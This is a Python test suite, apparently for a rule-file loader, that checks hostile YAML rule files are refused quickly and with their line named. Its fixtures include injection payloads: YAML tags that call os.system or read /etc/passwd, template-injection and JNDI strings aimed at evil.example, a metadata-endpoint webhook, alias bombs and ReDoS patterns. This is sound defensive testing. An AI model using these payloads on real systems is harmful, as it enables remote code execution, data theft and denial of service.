"""The hostile-content suite of rows 73 to 75: whatever a rule's file tries, it is refused with file, line, key and way
out, or it is harmless; in bounded time either way, and the answer stays short."""

import re
import time
from collections.abc import Callable
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nlp.errors import ContentInvalid
from service.adapters.content.loader import MOST_FAULTS
from service.domain.playbooks.rules import Rule, RuleFailed, durations_in
from tests.support.playbooks import a_reader, rule_text

READER = a_reader()
GOOD = rule_text("stage: {field: stage}", 'stage.text == "won"')
WHEN = """stage: {field: stage}
calls: {count: [call.logged], within: 3d}
leads: {series: [lead.created], period: 1d, last: 26}"""
BOUND_S = 5.0  # a loaded machine; unloaded each of these takes milliseconds
PLACE = re.compile(r"rule\.yaml:(\d+): (?:key `[^`\n]+`: )?\S.*", re.DOTALL)


def assert_placed(fault: str) -> None:
    assert PLACE.match(fault), fault


def line_of(text: str, part: str) -> int:
    return text[: text.index(part)].count("\n") + 1


def faults_of(text: str) -> list[str]:
    """What is said against it, each line with its place, within bounds of time and length."""
    started = time.monotonic()
    with pytest.raises(ContentInvalid) as caught:
        READER.read(text, source="rule.yaml")
    assert time.monotonic() - started < BOUND_S
    faults = str(caught.value).splitlines()
    assert len(faults) <= MOST_FAULTS + 1
    assert sum(map(len, faults)) < 64_000
    assert PLACE.fullmatch(faults[0]), faults[0]
    return faults


def with_condition(text: str) -> str:
    return rule_text(WHEN, "'" + text.replace("'", "''") + "'")


# --- the shape of the file -------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Shape:
    """A file that is hostile by its shape alone; `says` stands in the refusal, `at` is where its line is."""

    name: str
    make: Callable[[], str]
    says: str
    at: str = ""


def instead_of_owner(line: str) -> str:
    return GOOD.replace("owner: 测试", line, 1)


def of_selection(options: str) -> str:
    return rule_text(f"calls: {{{options}}}", "calls.n > 1")


def with_steps(number: int) -> str:
    step = "{after: 1m, actions: [{tag: {tag: x}}]}"
    return GOOD + "clock: {respond_within: 1m, then: [" + ", ".join([step] * number) + "]}"


def with_story(number: int) -> str:
    events = ", ".join(["{at: 2026-03-01 09:00, type: a.b}"] * number)
    return GOOD.replace("  stays_silent:", f"    - {{now: 2026-03-02 09:00, events: [{events}]}}\n  stays_silent:")


def block_bomb() -> str:
    nines = (", ".join([f"*l{i - 1}"] * 9) for i in range(1, 9))
    return "l0: &l0 [x]\n" + "\n".join(f"l{i}: &l{i} [{nine}]" for i, nine in enumerate(nines, 1))


def owner_is(value: str) -> Callable[[], str]:
    return lambda: instead_of_owner(f"owner: {value}")


def beside(line: str) -> Callable[[], str]:
    return lambda: GOOD + line


LEVELS, AT_12, DIGITS, ALIAS, TAG = (
    "more than 30 levels", "at most 12", "more than 30 digits", "anchor or alias", "a tag",
)  # fmt: skip
MANY_TYPES = ", ".join(f"a.b{i}" for i in range(1_000))
MANY_KEYS = ", ".join(f"k{i}: 1" for i in range(50))
MANY_SELECTIONS = "\n".join(f"sel{i}: {{field: stage}}" for i in range(2_000))
MANY_ACTIONS = "actions:\n" + "  - tag: {tag: x}\n" * 3_000
SHAPES = (
    Shape("flow_lists_100000_deep", lambda: "a: " + "[" * 100_000 + "]" * 100_000, LEVELS),
    Shape("flow_maps_5000_deep", owner_is("{a: " * 5_000 + "}" * 5_000), LEVELS, "owner:"),
    Shape("block_maps_700_deep", lambda: "\n".join(" " * i + "a:" for i in range(700)), LEVELS),
    Shape("block_lists_in_one_line", lambda: "a:\n  " + "- " * 20_000 + "x", LEVELS),
    Shape("open_lists_without_end", owner_is("[" * 50_000), LEVELS, "owner:"),
    Shape("a_file_of_a_megabyte", lambda: GOOD + "#" + "x" * 1_000_000, "256 KiB"),
    Shape("chinese_counts_in_bytes", lambda: GOOD + "#" + "字" * 90_000, "256 KiB"),
    Shape("twenty_thousand_keys", lambda: GOOD + "\n".join(f"k{i}: 1" for i in range(20_000)), "unknown key"),
    Shape("a_key_of_100000_letters", lambda: GOOD + "k" * 100_000 + ": x", "not YAML"),
    Shape("two_thousand_selections", lambda: rule_text(MANY_SELECTIONS, "'true'"), AT_12, "when:"),
    Shape("three_thousand_actions", lambda: GOOD.replace("actions:\n", MANY_ACTIONS), AT_12, "actions:"),
    Shape("five_hundred_steps", lambda: with_steps(500), "at most 6", "clock:"),
    Shape("five_thousand_story_events", lambda: with_story(5_000), "at most 60"),
    Shape("a_thousand_event_types", lambda: of_selection(f"count: [{MANY_TYPES}], within: 3d"), "at most 20", "calls:"),
    Shape("fifty_matches", lambda: of_selection(f"count: [a.b], within: 3d, match: {{{MANY_KEYS}}}"), "at most 10",
          "calls:"),
    Shape("a_text_without_end", lambda: GOOD.replace("请看", "价" * 60_000), "at most 1000", "- notify"),
    Shape("an_integer_of_5000_digits", owner_is("9" * 5_000), DIGITS, "owner:"),
    Shape("a_decimal_of_5000_digits", owner_is("1." + "9" * 5_000), DIGITS, "owner:"),
    Shape("not_a_number", beside("cooldown: .nan"), "15m, 72h", "cooldown"),
    Shape("infinity", beside("cooldown: .inf"), "15m, 72h", "cooldown"),
    Shape("no_time_at_all", lambda: of_selection("count: [a.b], within: 0d"), "15m, 72h", "calls:"),
    Shape("ten_thousand_years", beside("cooldown: 99999w"), "two years", "cooldown"),
    Shape("alias_bomb_in_blocks", block_bomb, ALIAS),
    Shape("alias_bomb_in_merges", lambda: "a: &a {x: 1}\nb: {<<: [*a, *a, *a]}", ALIAS),
    Shape("an_alias_to_itself", lambda: "a: &a [*a]", ALIAS),
    Shape("an_anchor_on_a_key", beside("&k cooldown: 1d"), ALIAS, "&k"),
    Shape("a_merge_key", beside("<<: {owner: x}"), "unknown key", "<<"),
    Shape("a_python_object", owner_is("!!python/object/apply:os.system [id]"), TAG, "owner:"),
    Shape("a_python_name", owner_is("!!python/name:os.system"), TAG, "owner:"),
    Shape("a_local_tag", owner_is("!include /etc/passwd"), TAG, "owner:"),
    Shape("a_binary_tag", owner_is("!!binary aGk="), TAG, "owner:"),
    Shape("a_tag_on_a_key", beside("!!str cooldown: 1d"), TAG, "!!str"),
    Shape("a_directive", lambda: "%YAML 1.1\n---\n" + GOOD, "a directive"),
    Shape("a_tag_directive", lambda: "%TAG ! tag:evil.example,2026:\n---\n" + GOOD, "a directive"),
    Shape("a_second_document", beside("---\nid: other"), "a second document", "---"),
    Shape("a_key_twice", beside("severity: high"), "twice", "severity: high"),
    Shape("a_key_twice_in_flow", beside("clock: {respond_within: 1h, respond_within: 2h}"), "twice", "clock"),
    Shape("a_list_as_key", beside("? [a]\n: b"), "key that is a list", "? [a]"),
    Shape("a_tab_for_a_space", lambda: instead_of_owner("\towner: 测试"), "not YAML", "\towner"),
    Shape("a_list_at_the_top", lambda: "- id: x", "start with `id:`"),
    Shape("nothing", lambda: "", "start with `id:`"),
    Shape("only_a_comment", lambda: "# nothing", "start with `id:`"),
)  # fmt: skip


@pytest.mark.parametrize("shape", SHAPES, ids=lambda shape: shape.name)
def test_a_hostile_shape_is_refused_where_it_stands(shape: Shape) -> None:
    text = shape.make()
    said = faults_of_sized(text)
    assert shape.says in said[0]
    assert not shape.at or f"rule.yaml:{line_of(text, shape.at)}:" in said[0]


def faults_of_sized(text: str) -> list[str]:
    """As `faults_of`; a file that is too large is refused unread, so that there is no line to name."""
    if len(text.encode()) <= 262_144:
        return faults_of(text)
    started = time.monotonic()
    with pytest.raises(ContentInvalid) as caught:
        READER.read(text, source="rule.yaml")
    assert time.monotonic() - started < BOUND_S
    return str(caught.value).splitlines()


def test_thousands_of_faults_are_told_of_in_a_short_answer() -> None:
    said = faults_of(GOOD + "\n".join(f"k{i}: 1" for i in range(20_000)))
    assert (
        said[-1] == f"rule.yaml: {20_000 - MOST_FAULTS} more faults like these; mend the first ones, then check again"
    )


# --- characters ------------------------------------------------------------------------------------------------------

UNSEEN = ["\x00", "\x07", "\x7f", "\x85", "\xad", "\u200b", "\u200f", "\u2028", "\u2029", "\u202e", "\u2066", "\u2060",
          "\u3164", "\u2800", "\ue000", "\ufeff", "\uffff", "\U000e0073"]  # fmt: skip


@pytest.mark.parametrize("character", UNSEEN, ids=lambda one: f"U+{ord(one):04X}")
@pytest.mark.parametrize(
    "place",
    ["title: 试一试", "owner: 测试", "severity: medium", 'stage.text == "won"', "请看"],
    ids=lambda one: one[:5],
)
def test_a_character_that_nobody_sees_is_refused_wherever_it_hides(place: str, character: str) -> None:
    text = GOOD.replace(place, place[:-1] + character + place[-1], 1)
    (said,) = faults_of(text)
    assert said.startswith(f"rule.yaml:{line_of(GOOD, place)}: a character that nobody sees (U+{ord(character):04X}); ")
    assert "delete it" in said


def test_half_a_character_is_refused_and_does_not_break_the_reader() -> None:
    assert "U+D800" in faults_of(instead_of_owner("owner: 测\ud800试"))[0]


@pytest.mark.parametrize("written", [r'"\u202eabc"', r'"a\u200b"', r'"\0"', r'"\uFEFFx"'])
def test_an_escape_is_no_way_around(written: str) -> None:
    text = instead_of_owner(f"owner: {written}")
    assert f"rule.yaml:{line_of(text, 'owner:')}: a character that nobody sees" in faults_of(text)[0]


@pytest.mark.parametrize(
    ("old", "new", "says"),
    [
        ("owner:", "\u043ewner:", "key `owner`: missing"),  # a Cyrillic о
        ("severity:", "ｓｅｖｅｒｉｔｙ:", "key `severity`: missing"),
        ("owner: ", "owner： ", "not YAML"),
        ("severity: medium", "severity: ｍedium", "key `severity`"),
        ("severity: medium", "severity: medium\ncooldown: １d", "key `cooldown`"),
        ("subject: opportunity", "subject: opp\u043ertunity", "key `subject`"),
        ('stage.text == "won"', 'ｓtage.text == "won"', "column 1"),
        ('stage.text == "won"', 'stage.text ＝＝ "won"', "column 12"),
        ('stage.text == "won"', "stage.text == “won”", "column 15"),
        ("id: trial_rule", "id: trial_r\u03c5le", "key `id`"),
    ],
)
def test_letters_that_only_look_alike_are_told_apart(old: str, new: str, says: str) -> None:
    assert old in GOOD
    assert any(says in fault for fault in faults_of(GOOD.replace(old, new, 1)))


# --- conditions ------------------------------------------------------------------------------------------------------

ILL = [
    ("stage.colour == 1", "undeclared reference"),
    ("nothing", "undeclared reference"),
    ("stage.text", "not true or false"),
    ("calls.n", "not true or false"),
    ("null", "not true or false"),
    ('"true"', "not true or false"),
    ("calls.n > 1.5", "no matching overload"),
    ("calls.n > '1'", "no matching overload"),
    ("stage.age > 3", "no matching overload"),
    ("stage.text > 3", "no matching overload"),
    ("calls.n.startsWith('a')", "no matching overload"),
    ("calls.n in leads.values", "no matching overload"),
    ("leads.values == 1.0", "no matching overload"),
    ("!calls.n", "no matching overload"),
    ("calls.n ? true : false", "no matching overload"),
    ("calls.n > 99999999999999999999", "invalid int literal"),
    ("stage.text == 'a", "Syntax error"),
    ("calls.n > ", "Syntax error"),
    ("calls.n > 1; true", "Syntax error"),
    ("(lambda: 1)() == 1", "Syntax error"),
    ("calls.n = 1", "Syntax error"),
    ("calls.n > 1 and true", "Syntax error"),
    ("__import__('os').system('id') == 0", "undeclared reference"),
    ("stage.?text.hasValue()", "unsupported syntax"),
    ("stage['text'] == 'a'", "undeclared reference"),
    ("has(stage.secret)", "undeclared reference"),
    ("stage.text.replace('a', stage.text) == ''", "undeclared reference"),
    ("'%s'.format([stage.text]) == ''", "undeclared reference"),
    ("lists.range(1000000).all(x, x >= 0)", "undeclared reference"),
    ('"a" * 1000000 == ""', "no matching overload"),
    ("dyn(1) == 'a'", "is not for rules"),
    ("type(calls.n) == int", "is not for rules"),
    ("google.protobuf.Any{type_url: 'x'} == null", "is not for rules"),
    ("bytes(stage.text) == b'a'", "is not for rules"),
    ("calls.n > 1 // and so on", "is not for rules"),
    ("stage.text == '''a'''", "is not for rules"),
    ("stage.age > duration('72h')", "days(3)"),
    ("stage.age > timestamp ('2020-01-01T00:00:00Z')", "days(3)"),
    ("stage.age > days(-3)", "days(3)"),
    ("stage.age > days(1000000)", "days(3)"),
    ("stage.age > days(calls.n)", "days(3)"),
    ("stage.age > [3].map(x, days(x))[0]", "days(3)"),
]  # fmt: skip
V = "leads.values"
COSTLY = [
    ("(" * 250 + "calls.n > 1" + ")" * 250, "nested too deeply"),
    ("[" * 200 + "]" * 200 + " == []", "nested too deeply"),
    ("leads.values" + "[0]" * 150 + " > 1.0", "nested too deeply"),
    ("stage.text" + "+stage.text" * 45 + " == 'x'", "nested too deeply"),
    ("calls.n>1?true:" * 39 + "false", "nested too deeply"),
    ("calls.n > 1 || " * 100 + "false", "at most 600 characters"),
    (f"{V}.all(a, {V}.all(b, {V}.all(c, {V}.all(d, a < 1.0))))", "list functions"),
    (f"{V} . all (a, {V} . all (b, {V} . all (c, {V} . all (d, a < 1.0))))", "list functions"),
    (f"{V}.map(a, {V}.map(b, {V}.map(c, {V}.map(d, a)))).size() > 1", "list functions"),
    (f"{V}.exists(a, a > 1.0) || {V}.exists_one(a, a > 1.0) || {V}.filter(a, a > 1.0).map(a, a).size() > 1",
     "list functions"),
]  # fmt: skip
PATTERNS = [
    ("stage.text.matches('(')", "is no pattern"),
    ("stage.text.matches('[a-')", "is no pattern"),
    ("stage.text.matches('(?<=a)b')", "is no pattern"),  # looking back is what makes others backtrack
    (r"stage.text.matches(r'(a)\1')", "is no pattern"),
    ("stage.text.matches('(((a{1,1000}){1,1000}){1,1000})')", "200 repeats"),
    ("stage.text.matches('(a{1,100}){1,10}(b{1,100}){1,10}c')", "200 repeats"),
    ("stage.text.matches('" + "(a|b|ab)*" * 20 + "c')", "100 characters"),
    ("'x'.matches(stage.text)", "one text in quotes"),
    ("stage.text.matches('^' + stage.text)", "one text in quotes"),
    ("matches(stage.text, '(a+)+$')", "one text in quotes"),
    ("stage.text.matches\n (stage.text)", "one text in quotes"),
]


@pytest.mark.parametrize(("condition", "says"), [*ILL, *COSTLY, *PATTERNS])
@pytest.mark.parametrize("key", ["condition", "unless"])
def test_a_bad_condition_is_refused_under_its_key(key: str, condition: str, says: str) -> None:
    quoted = "'" + condition.replace("'", "''") + "'"
    text = rule_text(WHEN, quoted) if key == "condition" else rule_text(WHEN, "'true'", more=f"unless: {quoted}")
    (said,) = faults_of(text)
    assert said.startswith(f"rule.yaml:{line_of(text, f'{chr(10)}{key}: ') + 1}: key `{key}`: ")
    assert says in said


def values_for(rule: Rule) -> dict[str, Any]:
    """Values as large as they may come, for every name that the condition reads."""
    large: dict[str, Any] = {"stage.text": "a" * 20_000 + "!", "stage.value": "x" * 20_000, "calls.n": 10**6,
                             "leads.values": [0.5] * 26}  # fmt: skip
    names = rule.conditions["condition"].names  # type: ignore[attr-defined]
    return {name: large.get(name, timedelta(days=1)) for name in names}


@pytest.mark.parametrize(
    "condition",
    [
        "stage.text.matches('^(a+)+$')",
        "stage.text.matches('(x+x+)+y')",
        "stage.text.matches('^(([a-z])+.)+[A-Z]([a-z])+$')",
        "stage.text.matches('(.*)(.*)(.*)(.*)(.*)(.*)(.*)(.*)(.*)z')",
        "stage.text.matches('(a?){20}(a){10}$')",
        "stage.text.matches('([a-z]{1,14}){1,14}$')",
        "leads.values.all(a, leads.values.all(b, leads.values.all(c, a + b + c < 9.0)))",
        "[" + ",".join(["1"] * 90) + "].all(x, [" + ",".join(["1"] * 90) + "].all(y, x == y))",
        "!" * 500 + "(calls.n > 1)",
        "leads.values.map(x, leads.values.map(y, leads.values)).size() > 1",
        "calls.n + 9223372036854775807 > 0",
        "calls.n / 0 > 1",
        "leads.values[100] > 1.0",
        "stage.value > 3",
        "stage.value.startsWith('a') && stage.value < 3",
    ],
)
def test_what_is_allowed_ends_soon_or_fails_as_a_rule_that_cannot_be_told(condition: str) -> None:
    rule = READER.read(with_condition(condition), source="rule.yaml")
    values = values_for(rule)
    started = time.monotonic()
    try:
        assert rule.conditions["condition"].holds(values) in (True, False)
    except RuleFailed as caught:
        reported = str(caught)
    else:
        reported = condition
    assert condition in reported
    assert time.monotonic() - started < 1.0


def test_a_duration_written_with_a_space_wakes_its_rule_too() -> None:
    assert durations_in(["stage.age > days (3)", "x > hours\n(2)"]) == (timedelta(hours=2), timedelta(days=3))


WORDS = ["stage.text", "calls.n", "leads.values", "&&", "||", "!", "(", ")", "[", "]", "{", "}", "'", '"', "==", ">",
         "1", "days(3)", ".all(x, ", ".matches(", " ", "\n", ".", ",", ":", "?", "%", "é", "价"]  # fmt: skip


@given(st.lists(st.sampled_from(WORDS), max_size=30).map("".join))
@settings(max_examples=150, deadline=None)
def test_any_condition_is_compiled_or_refused_as_content(text: str) -> None:
    try:
        READER.read(with_condition(text), source="rule.yaml")
    except ContentInvalid as caught:
        refused = str(caught)
        assert_placed(refused)


# --- texts, people, references ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "{{ ''.__class__ }}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{config}}", "{{self}}",
        "{{request.application}}", "{{stage.text.__class__}}", "{{stage.secret}}", "{{ stage.text }}",
        "{{{{stage.text}}}}", "{{stage.text", "stage.text}}", "{0.__class__}", "{stage.text}", "${7*7}",
        "${jndi:ldap://evil.example/x}", "#{7*7}", "<%= system('id') %>", "%><%", "{# comment #}",
        "{% for a in range(999999999) %}x{% endfor %}", "{{subject|safe}}", "{{subject}}}}", "{{STAGE.text}}",
        "{{stage..text}}", "{{stage.text.text}}", "{{1}}", "{{}}", "{{ｓubject}}",
    ],
)  # fmt: skip
@pytest.mark.parametrize("place", ["notify", "tag", "pool", "task", "step"])
def test_row_73_no_template_is_ever_run_wherever_a_text_stands(place: str, text: str) -> None:
    quoted = "'" + text.replace("'", "''") + "'"
    action = {
        "notify": f"  - notify: {{to: [owner], text: {quoted}}}",
        "tag": f"  - tag: {{tag: x, action: {quoted}}}",
        "pool": f"  - move_to_pool: {{pool: {quoted}}}",
        "task": f"  - create_task: {{to: [owner], due_within: 1d, title: {quoted}}}",
        "step": "  - tag: {tag: x}",
    }[place]
    file = GOOD.replace("  - notify:", action + "\n  - notify:", 1)
    if place == "step":
        file += "clock:\n  respond_within: 1h\n  then:\n    - actions:\n"
        file += f"        - notify: {{to: [owner], text: {quoted}}}\n"
    (said,) = faults_of(file)
    assert said.startswith(f"rule.yaml:{line_of(file, quoted)}: key `")
    assert "name" in said


@pytest.mark.parametrize(
    "person",
    ["boss", "https://evil.example/hook", "person:../../etc/passwd", "person:<script>", "person:", "person:a b",
     "owner;x", "person:" + "a" * 200, "@all", "ＯＷＮＥＲ", "owner\\nmanager"],
)  # fmt: skip
def test_recipients_are_roles_or_plain_ids(person: str) -> None:
    text = GOOD.replace("[owner, manager]", f'["{person}"]')
    assert any(
        f"rule.yaml:{line_of(text, '- notify')}: key `actions.0.notify.to.0`" in fault for fault in faults_of(text)
    )


@pytest.mark.parametrize(
    ("action", "says"),
    [
        ("- push_pack: {to: [owner], text: x, talktrack: nobody_wrote_it}", "talktracks/"),
        ("- push_pack: {to: [owner], text: x, talktrack: ../../etc/passwd}", "talktrack"),
        ("- assign_course: {to: [owner], text: x, course: nobody_wrote_it}", "courses/"),
        ("- publish_score: {name: x_y, value: stage.secret}", "no attribute of a selection"),
        ("- publish_score: {name: x_y, value: os.environ}", "no attribute of a selection"),
        ("- notify: {to: [owner], text: x, links: ['https://evil.example']}", "links"),
        ("- notify: {to: [owner], text: x, links: ['last_mention:../x']}", "links"),
        ("- webhook: {url: 'http://169.254.169.254/'}", "unknown key"),
        ("- {notify: {to: [owner], text: x}, tag: {tag: y}}", "exactly one of"),
        ("- freeze_stage: {stage: x, sql: 'DROP TABLE'}", "unknown key"),
    ],
)  # fmt: skip
def test_an_action_reaches_nothing_but_what_is_known(action: str, says: str) -> None:
    text = GOOD.replace("  - notify:", f"  {action}\n  - notify:", 1)
    said = faults_of(text)
    assert says in said[0]
    assert f"rule.yaml:{line_of(text, action)}:" in said[0]
